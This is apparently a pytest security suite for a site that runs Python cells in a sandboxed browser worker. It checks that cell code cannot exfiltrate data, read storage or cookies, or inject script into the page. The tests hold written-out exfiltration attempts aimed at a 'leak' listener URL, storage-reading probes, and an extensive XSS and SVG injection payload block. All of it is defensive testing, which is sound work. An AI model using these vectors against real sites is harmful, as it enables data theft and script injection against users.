"""What runs in a cell, the reader's code or a stranger's, reaches neither the network, nor the site's storage, nor the page."""

import json
import re

import pytest

from kino_build.static import StaticServer
from tests.browser import pages

# Each way to send is tried by itself and says how it ended; NAME and TARGET are filled in.
SENDING = {
    "fetch": "await js.fetch(TARGET)",
    "the engine's own fetch": "await js.WorkerGlobalScope.prototype.fetch.call(js.self, TARGET)",
    "fetch without an answer": (
        "await js.WorkerGlobalScope.prototype.fetch.call(js.self, TARGET, to_js({'mode': 'no-cors', 'method': 'POST', 'body': 'secret'}))"
    ),
    "XMLHttpRequest": "request = js.XMLHttpRequest.new()\nrequest.open('GET', TARGET, False)\nrequest.send()",
    "XMLHttpRequest that waits": (
        "request = js.XMLHttpRequest.new()\nrequest.open('POST', TARGET, True)\nrequest.send('secret')\nawait ended(request, 'load')"
    ),
    "WebSocket": "await ended(js.WebSocket.new(TARGET.replace('http', 'ws')), 'open')",
    "EventSource": "await ended(js.EventSource.new(TARGET), 'open')",
    "importScripts": "js.importScripts(TARGET)",
    "Worker": "await ended(js.Worker.new(TARGET), 'message')",
    "a worker's fetch": "await nested(\"fetch('\" + TARGET + \"', {mode: 'no-cors'})\")",
    "a worker's importScripts": 'await nested("Promise.resolve(importScripts(\'" + TARGET + "\'))")',
    "a worker's import()": 'await nested("import(\'" + TARGET + "\')")',
    "a worker's worker": 'await nested("new Promise((yes, no) => Object.assign(new Worker(\'" + TARGET + "\'), {onmessage: yes, onerror: no}))")',
    "pyfetch": "import pyodide.http\nawait pyodide.http.pyfetch(TARGET)",
    "open_url": "import pyodide.http\npyodide.http.open_url(TARGET)",
    "urllib": "import urllib.request\nurllib.request.urlopen(TARGET, timeout=2)",
    "socket": (
        "import socket, urllib.parse\nplace = urllib.parse.urlsplit(TARGET)\n"
        "socket.create_connection((place.hostname, place.port), 2).send(b'GET /secret HTTP/1.0\\r\\n\\r\\n')\n"
        "raise OSError('sent into nothing')"
    ),
    "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage(TARGET + '.whl')\nassert False, 'it says nothing'",
}

STORING = {
    "localStorage": "print(js.localStorage.getItem('secret'))",
    "sessionStorage": "print(js.sessionStorage.length)",
    "indexedDB": "await ended(js.indexedDB.open('secret'), 'success')",
    "caches": "print(await js.caches.keys())",
    "files": "print(await js.navigator.storage.getDirectory())",
    "cookies": "print(await js.cookieStore.getAll())",
    "locks": "await js.navigator.locks.query()",
    "the page": "print(js.document.title)",
    "the page above": "print(js.parent.document.title)",
    "the window": "print(js.window.location.href)",
}

TOOLS = """
import asyncio, js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js as to_js_plain

def to_js(value):
    return to_js_plain(value, dict_converter=js.Object.fromEntries)

async def ended(thing, good):
    future = asyncio.get_running_loop().create_future()
    def yes(event): future.done() or future.set_result(good)
    def no(event): future.done() or future.set_exception(OSError(event.type))
    thing.addEventListener(good, create_proxy(yes))
    for bad in ("error", "close", "blocked"):
        thing.addEventListener(bad, create_proxy(no))
    return await asyncio.wait_for(future, 10)

async def nested(expression):
    source = "const say = (word) => () => postMessage(word);" \\
        "try { (" + expression + ").then(say('through'), say('refused')) } catch { say('refused')() }"
    worker = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([source]), to_js({"type": "text/javascript"}))))
    future = asyncio.get_running_loop().create_future()
    worker.addEventListener("message", create_proxy(lambda event: future.set_result(event.data)))
    worker.addEventListener("error", create_proxy(lambda event: future.done() or future.set_result("refused")))
    end = await asyncio.wait_for(future, 10)
    if end == "refused":
        raise OSError("refused")
    return end
"""


def attempts(ways, target=""):
    """A cell that tries every way and prints for each how it ended."""
    lines = [TOOLS]
    for name, code in ways.items():
        body = "\n".join(
            f"    {line}" for line in code.replace("TARGET", repr(target + re.sub(r"\W", "-", name))).splitlines()
        )
        lines.append(f"async def attempt():\n{body}")
        lines.append(f"try:\n    await attempt()\n    print({name!r}, ': through')")
        lines.append(f"except BaseException as error:\n    print({name!r}, ': refused', type(error).__name__)")
    return "\n".join(lines)


def check_refused(words, ways):
    ends = dict(re.findall(r"^(.*) : (\w+)", words, re.MULTILINE))
    assert ends == dict.fromkeys(ways, "refused"), words


@pytest.fixture(scope="module")
def listener(tmp_path_factory):
    """A server of another origin, which would like to hear something."""
    with StaticServer(
        tmp_path_factory.mktemp("listener"), extra_headers={"Access-Control-Allow-Origin": "*"}
    ) as server:
        yield server


@pytest.fixture(autouse=True)
def reports(problems):
    """A refusal is also reported on the console, which is right here; anything else is not."""
    yield
    refusal = r"(?i)content security policy|violates|refused to|Failed to load resource|NetworkError"
    problems[:] = [problem for problem in problems if not re.search(refusal, problem)]


def test_nothing_can_be_sent_to_another_server(awake, listener):
    words = pages.run(awake, attempts(SENDING, listener.url + "leak-"))
    check_refused(words, SENDING)
    assert listener.requests == []


def test_a_worker_started_by_a_cell_does_run(awake):
    """So that the refusals of "a worker's …" above are those of the policy."""
    assert pages.run(awake, TOOLS + "\nawait nested('Promise.resolve()')") == "'through'"


def test_the_listener_hears_what_is_not_sealed(browser, site, listener):
    """A worker in a sandboxed frame like Python's, but without the frame's policy, is heard: the policy is what seals."""
    url = listener.url + "control"
    worker = f"fetch('{url}').then(() => postMessage('sent'))"
    frame = f"""<script>
      const blob = new Blob([{json.dumps(worker)}], {{type: "text/javascript"}});
      new Worker(URL.createObjectURL(blob)).onmessage = ({{data}}) => parent.postMessage(data, "*");
    </script>"""
    context = browser.new_context()
    page = context.new_page()
    page.goto(site.url + "a-page-without-policy")
    said = page.evaluate(
        """(html) => new Promise((resolve) => {
          addEventListener("message", ({data}) => resolve(data));
          const frame = document.createElement("iframe");
          frame.setAttribute("sandbox", "allow-scripts");
          frame.srcdoc = html;
          document.body.append(frame);
        })""",
        frame,
    )
    context.close()
    assert said == "sent"
    assert listener.requests.pop() == "/control"


def test_nothing_can_be_asked_of_the_site_itself(awake, site):
    words = pages.run(awake, attempts(SENDING, site.url + "leak-"))
    check_refused(words, SENDING)
    assert [path for path in site.requests if "leak" in path] == []


def test_storage_and_page_are_out_of_reach(awake):
    awake.evaluate("localStorage.setItem('secret', 'do not tell')")
    words = pages.run(awake, attempts(STORING))
    check_refused(words, STORING)
    assert "do not tell" not in words


def test_a_channel_of_the_page_does_not_hear_a_cell(awake):
    awake.evaluate(
        "() => { window.heard = []; window.channel = new BroadcastChannel('kino'); channel.onmessage = ({data}) => heard.push(data) }"
    )
    pages.run(
        awake,
        "import js\nchannel = js.BroadcastChannel.new('kino')\nchannel.postMessage('from the cell')\nchannel.close()",
    )
    # The page's own messages do arrive, and after this one nothing that was sent before can still come.
    awake.evaluate("new BroadcastChannel('kino').postMessage('from the page')")
    pages.until(awake, "heard.length > 0")
    assert awake.evaluate("heard") == ["from the page"]


def test_page_and_frame_cannot_see_into_each_other(awake):
    assert awake.evaluate("[...document.querySelectorAll('iframe')].map((frame) => frame.contentDocument)") == [None]
    inside = awake.frames[1]
    assert inside.evaluate("origin") == "null"
    for secret in (
        "parent.document.title",
        "parent.localStorage",
        "top.location.href",
        "localStorage.length",
        "document.cookie",
    ):
        assert (
            inside.evaluate(f"() => {{ try {{ return {secret} ?? 'none' }} catch (error) {{ return error.name }} }}")
            == "SecurityError"
        )


# What the cell sends to the page itself


def post(*messages):
    """A cell that sends messages to the page as if they were the worker's own."""
    lines = ["import js, json", "def send(text): js.postMessage(js.JSON.parse(text))"]
    return "\n".join(lines + [f"send({json.dumps(message)!r})" for message in messages])


def check_untouched(page, listener):
    assert page.evaluate("window.touched") is None
    assert page.url.endswith(pages.LESSON)
    assert listener.requests == []
    strange = "script:not([src]), img, object, embed, link:not([rel=icon], [rel=stylesheet], [rel=modulepreload]), base, form, foreignObject, use, image, video"
    assert page.locator("kino-cell, kino-figure").locator(strange).count() == 0
    attributes = page.evaluate(
        """() => [...document.querySelectorAll("kino-cell [data-output] *, kino-figure [data-picture] *")]
          .flatMap((node) => [...node.attributes].filter(({name, value}) => /^on|href|src|style|formaction/.test(name) || /url/i.test(value)))
          .map(({name, value}) => `${name}=${value}`)"""
    )
    assert attributes == []


EVIL = '<img src=x onerror="window.touched=1"><script>window.touched=1</script>'


def test_false_output_is_text_or_dropped(awake, listener):
    ids = range(1, 400)
    items = [{"type": "items", "id": i, "items": [{"kind": "out", "text": EVIL}]} for i in ids]
    wrong = [
        {"type": "items", "id": i, "items": [item]}
        for i in ids
        for item in (
            {"kind": "image", "png": f'{listener.url}"', "alt": "", "width": 1, "height": 1},
            {"kind": "html", "text": EVIL},
            {"kind": "constructor", "text": EVIL},
            {"kind": "tail", "text": EVIL, "lines": EVIL, "chars": 0},
        )
    ]
    strange = [
        {"type": "__proto__"},
        {"type": "constructor", "id": 1},
        {"type": "items", "id": 1, "items": "x" * 100},
        [],
        5,
    ]
    words = pages.run(awake, post(*items, *wrong, *strange))
    assert words == EVIL
    check_untouched(awake, listener)


def test_a_false_answer_is_text(awake, listener):
    error = {"type": EVIL, "message": EVIL, "frames": [{"cell": EVIL, "line": EVIL, "name": EVIL, "source": EVIL}]}
    payload = json.dumps({"status": "error", "error": error})
    pages.run(awake, post(*({"type": "answer", "id": i, "payload": payload} for i in range(1, 400))))
    assert EVIL in pages.output(awake)
    check_untouched(awake, listener)
    assert pages.run(awake, "'and on'") == "'and on'"


def test_an_answer_that_makes_no_sense_does_not_break_the_page(awake, listener):
    for payload in ("null", "[]", '"x"', "{", '{"status": "error"}', '{"status": "error", "error": {}}'):
        pages.run(awake, post(*({"type": "answer", "id": i, "payload": payload} for i in range(1, 400))))
        assert pages.run(awake, "'and on'") == "'and on'", payload
    check_untouched(awake, listener)


@pytest.mark.parametrize("message", ["js.undefined", "None", "5", "js.Object.new()", "'x' * 1000"])
def test_a_message_without_form_is_dropped(awake, message):
    assert pages.run(awake, f"import js\njs.postMessage({message})\n'and on'") == "'and on'"


# A picture from a figure that a cell has replaced


def replace_figure(markup):
    """A cell that makes the figure draw `markup`."""
    return f"""
import kino.bridge
from kino.figures import Picture

class False_:
    def draw(self, state):
        return Picture({markup!r}, dict(state), {EVIL!r})

kino.bridge._figures["turning-query"] = False_()
"""


def test_markup_of_a_live_picture_is_stripped(awake, listener):
    leak = listener.url + "leak"
    markup = f"""
<svg class="dial" viewBox="0 0 9 9" onload="window.touched=1" style="background:url({leak})">
  <script>window.touched=1</script><style>@import "{leak}";</style>
  <foreignObject width="9" height="9"><img src="{leak}" onerror="window.touched=1"></foreignObject>
  <a href="javascript:window.touched=1" xlink:href="{leak}"><text class="inside">x</text></a>
  <use href="{leak}#a"/><image href="{leak}" width="9" height="9"/>
  <animate attributeName="href" values="{leak}"/><set attributeName="onclick" to="window.touched=1"/>
  <circle class="kept" r="1" fill="url({leak}#a)" stroke="u\\72l({leak}#b)" onclick="window.touched=1"/>
</svg>
<img src="{leak}" onerror="window.touched=1"><iframe srcdoc="<script>parent.touched=1</script>" src="{leak}"></iframe>
<link rel="stylesheet" href="{leak}"><meta http-equiv="refresh" content="0;url={leak}"><base href="{leak}">
<form action="{leak}"><input autofocus onfocus="window.touched=1"><button type="submit" formaction="{leak}">send</button></form>
<video src="{leak}" autoplay></video><object data="{leak}"></object><embed src="{leak}">
<math href="javascript:window.touched=1"><mtext>m</mtext></math><template><img src="{leak}"></template>
<p class="kept" id="main" name="x" onmouseover="window.touched=1" style="position:fixed;inset:0">kept</p>
<button class="kept" type="submit" onclick="window.touched=1" data-why="{EVIL.replace('"', "&quot;")}">kept</button>
"""
    pages.run(awake, replace_figure(markup))
    try:
        awake.evaluate("document.querySelector('kino-figure').state = {angle: 12}")
        pages.until(awake, "document.querySelectorAll('[data-picture] .kept').length === 3")
        awake.locator("[data-picture] button.kept").hover()
        awake.locator("[data-picture] button.kept").click()
        shown = pages.until(awake, "document.querySelector('[data-picture]').innerHTML")
        assert awake.locator("kino-figure [data-words]").inner_text() == EVIL
        assert awake.locator("kino-figure [data-reason]").inner_text() == EVIL
        check_untouched(awake, listener)
        drawing = re.sub(r'data-why="[^"]*"', "", shown)
        assert not re.search(r"leak|touched|<a |<img|<script|<style|javascript:", drawing), drawing
    finally:
        pages.run(awake, "kino.bridge._figures.clear()")
    # The lesson's own figure is back, whole.
    pages.turn(awake, angle=13)
    assert awake.locator("[data-picture] .kept").count() == 0
    assert awake.locator("[data-picture] .marker").count() == 4


@pytest.mark.parametrize(
    "markup",
    ["5", "None", "'<frameset><frame src=x></frameset>'", "'<svg><svg><svg>'", "'</div></kino-figure><h1>out</h1>'"],
)
def test_an_odd_picture_leaves_the_figure_alive(awake, markup):
    code = replace_figure("MARKUP").replace("'MARKUP'", markup)
    pages.run(awake, code)
    awake.evaluate("document.querySelector('kino-figure').state = {angle: 21}")
    pages.run(awake, "kino.bridge._figures.clear()")
    assert awake.locator("h1").count() == 1
    assert pages.turn(awake, angle=22)["angle"] == "22°"


def test_a_picture_that_turns_no_control_of_the_figure_is_harmless(awake):
    pages.run(
        awake,
        replace_figure(
            '<svg class="dial" viewBox="-9 -9 18 18"><circle class="face" r="9" data-turn="nothing"/></svg>'
        ),
    )
    awake.evaluate("document.querySelector('kino-figure').state = {angle: 31}")
    face = awake.locator("[data-picture] [data-turn=nothing]")
    face.wait_for()
    face.click()
    pages.run(awake, "kino.bridge._figures.clear()")
    assert pages.turn(awake, angle=32)["angle"] == "32°"
